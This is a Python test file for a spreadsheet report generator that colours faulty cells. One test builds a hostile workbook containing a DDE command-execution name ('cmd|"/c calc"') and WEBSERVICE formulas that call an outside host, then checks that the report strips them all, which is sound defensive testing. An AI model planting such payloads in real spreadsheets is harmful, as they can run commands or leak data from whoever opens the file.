"""The workbook of findings: which cell is marked, and that nothing in it can run."""

import io
import zipfile
from typing import Any

import xlwt
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from comity.formats.marked import About, mark_workbook
from comity.formats.marked.marks import COLOURS
from comity.formats.source import read_source
from comity.model.findings import Finding, Findings, Severity


def finding(
    row: int | None, column: str | None, found: str | None = None, *, severity: Severity = Severity.ERROR
) -> Finding:
    """Return a finding at a place."""
    return Finding("TST-01", severity, "It is wrong.", row, column, found, None, "Correct it.")


def marked(data: bytes, *found: Finding, most_cells: int = 1_000) -> Any:  # noqa: ANN401 - a workbook
    """Return the report on a file as an opened workbook."""
    findings = Findings()
    findings.extend(found)
    report = mark_workbook(read_source(data, "x"), findings, About("Report"), most_cells=most_cells)
    return load_workbook(io.BytesIO(report))


def bytes_of(book: Any) -> bytes:  # noqa: ANN401 - a workbook of either library
    """Return a saved workbook's bytes."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def colours(sheet: Any) -> dict[str, str]:  # noqa: ANN401 - a sheet
    """Return the colour of each marked cell."""
    known = set(COLOURS.values())
    cells = [cell for row in sheet.iter_rows() for cell in row]
    return {cell.coordinate: cell.fill.start_color.rgb for cell in cells if cell.fill.start_color.rgb in known}


def test_a_cell_has_the_colour_of_its_gravest_fault() -> None:
    """A warning that covers an error lets its sender correct the wrong thing first."""
    book = Workbook()
    book.active.append(["Month", "Entries"])
    book.active.append(["2024-03", "x"])
    data = bytes_of(book)
    hits = (finding(2, "B (Entries)", "x"), finding(2, "B (Entries)", "x", severity=Severity.WARNING))
    for order in (hits, hits[::-1]):
        sheet = marked(data, *order)["Sheet"]
        assert colours(sheet) == {"B2": COLOURS[Severity.ERROR]}
        assert sheet["B2"].comment.text.count("TST-01") == 2


def test_the_sheet_is_that_in_which_the_faults_were_found() -> None:
    """The first sheet is often a cover: marks on it would be about nothing."""
    book = Workbook()
    book.active.append(["Cover"])
    data = book.create_sheet("March 'n'")
    data.append(["Month", "Entries"])
    data.append(["2024-03", "x"])
    report = marked(bytes_of(book), finding(2, "B (Entries)", "x"))
    assert colours(report["Sheet"]) == {}
    assert list(colours(report["March 'n'"])) == ["B2"]
    link = next(cell.hyperlink for row in report["Findings"].iter_rows() for cell in row if cell.hyperlink)
    assert link.location == "'March ''n'''!B2"


def test_a_merged_cell_is_marked_where_it_shows() -> None:
    """A mark inside a merged range is seen by nobody."""
    book = Workbook()
    book.active["A1"] = "x"
    book.active.merge_cells("A1:C2")
    assert list(colours(marked(bytes_of(book), finding(2, "B", "x"))["Sheet"])) == ["A1"]


def test_nothing_in_the_report_can_run() -> None:
    """The secretariat opens what a stranger may have sent: no formula, no name that computes, no link out."""
    book = Workbook()
    sheet = book.active
    sheet["A1"] = '=WEBSERVICE("http://example.org/"&B1)'
    sheet["A2"] = "see"
    sheet["A2"].hyperlink = "http://example.org/"
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=["WEBSERVICE(A1)>1"]))
    book.defined_names["evil"] = DefinedName("evil", attr_text='cmd|"/c calc"!A1')
    book.defined_names["fine"] = DefinedName("fine", attr_text="Sheet!$A$1:$A$9")
    validations = (
        DataValidation(type="custom", formula1="WEBSERVICE(A1)"),
        DataValidation(type="list", formula1="fine"),
    )
    for validation in validations:
        validation.add("B1")
        sheet.add_data_validation(validation)
    report = marked(bytes_of(book), finding(1, "A"))
    cells = [cell for one in report for row in one.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert not [cell for cell in cells if cell.hyperlink and cell.hyperlink.target]
    assert list(report.defined_names) == ["fine"]
    assert [one.type for one in report["Sheet"].data_validations.dataValidation] == ["list"]
    assert not list(report["Sheet"].conditional_formatting)


def test_an_old_workbook_is_shown_as_texts() -> None:
    """XLS is still in use; its sender gets the same help."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("Март")
    sheet.write(0, 0, "Month")
    sheet.write(1, 0, "2024-03")
    sheet.write(1, 1, -5)
    report = marked(bytes_of(book), finding(2, "B", "-5"))
    assert report["Март"]["B2"].value == "-5"
    assert list(colours(report["Март"])) == ["B2"]


def test_a_long_file_shows_its_faulty_lines_under_their_numbers() -> None:
    """A sheet has an end; a fault behind it must be seen all the same."""
    lines = 100
    data = b"a,b\n" + b"1,2\n" * lines + b"1,bad\n1,2\n"
    report = marked(data, finding(lines + 2, "b", "bad"), finding(None, "b"), most_cells=20)
    sheet = report["File"]
    last = sheet.max_row
    assert last == 12
    assert [cell.value for cell in sheet[last]] == [lines + 2, "1", "bad"]
    assert set(colours(sheet)) == {f"C{last}", "C2"}
    assert any("long" in str(cell.value) for row in report["Findings"].iter_rows() for cell in row)


def test_lines_are_counted_as_an_editor_counts_them() -> None:
    """A quoted line break makes one record of two lines; a mark one line off is on the wrong figure."""
    report = marked(b'a;b\r\n"x\r\ny";1\r\n\r\nz;bad\r\n', finding(5, "#2", "bad"))
    (address,) = colours(report["File"])
    assert report["File"][address].value == "bad"


def test_a_workbook_that_the_library_cannot_open_is_shown_by_its_values() -> None:
    """Programs write workbooks that others stumble over; their senders need a report like any other."""
    book = Workbook()
    book.active.append(["Month", "Entries"])
    book.active.append(["2024-03", "x"])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(bytes_of(book))) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, data.replace(b"fontId=", b'applyNonsense="x" fontId=') if "styles" in name else data)
    report = marked(out.getvalue(), finding(2, "B (Entries)", "x"))
    assert report["Sheet"]["B2"].value == "x"
    assert list(colours(report["Sheet"])) == ["B2"]
